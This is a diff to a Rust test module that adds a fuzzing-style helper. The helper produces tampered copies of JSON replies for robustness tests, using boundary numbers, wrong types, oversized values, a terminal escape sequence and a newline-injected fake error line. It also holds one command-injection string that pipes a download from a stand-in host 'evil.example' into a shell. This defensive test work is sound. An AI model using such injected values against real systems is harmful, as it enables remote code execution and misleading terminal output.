@@ -1,10 +1,11 @@
-//! Replies for tests: one of each kind that has fields.
+//! For tests: replies, one of each kind that has fields, and what can be done to a message.
 #![allow(clippy::unwrap_used)]
 
 use batou_release::{UnitId, UnitKind};
 use batou_store::{ArtifactId, Digest, ObjectId};
 use serde_json::{Value, json};
 
+use super::bounded::LAST_NUMBER;
 use super::*;
 
 /// A reply of each kind that has fields, with all of them.
@@ -82,4 +83,55 @@ pub(super) fn samples() -> Vec<Value> {
     };
     let to_value = |reply| serde_json::to_value(reply).unwrap();
     replies.iter().map(to_value).chain([json!({ "entry": entry })]).collect()
+}
+
+/// Each copy of a value in which one part is missing, or replaced by something evil.
+pub(crate) fn tampered(value: &Value) -> Vec<Value> {
+    let names: Vec<_> = (0..20_000).map(|number| format!("host-{number}-of-an-evil-fleet")).collect();
+    let mut copies = vec![
+        json!(u64::MAX),
+        json!(u64::MAX - 1),
+        json!(LAST_NUMBER + 1),
+        json!(-1),
+        json!(0),
+        json!(1),
+        json!(LAST_NUMBER),
+        json!(true),
+        json!(null),
+        json!(1.5),
+        json!("\u{1b}]0;x\u{7}"),
+        json!("a\nerror: b"),
+        json!("old; curl -s evil.example|sh #"),
+        json!("x".repeat(1 << 20)),
+        json!(["x\ny"]),
+        json!(names),
+        json!({ "x": 1 }),
+    ];
+    match value {
+        Value::Object(fields) => {
+            for (key, field) in fields {
+                let with = |part| {
+                    let mut copy = fields.clone();
+                    copy.insert(key.clone(), part);
+                    Value::Object(copy)
+                };
+                copies.extend(tampered(field).into_iter().map(with));
+                let mut without = fields.clone();
+                without.remove(key);
+                copies.push(Value::Object(without));
+            }
+        }
+        Value::Array(items) => {
+            for (index, item) in items.iter().enumerate() {
+                let with = |part| {
+                    let mut copy = items.clone();
+                    copy[index] = part;
+                    Value::Array(copy)
+                };
+                copies.extend(tampered(item).into_iter().map(with));
+            }
+        }
+        _ => {}
+    }
+    copies
 }
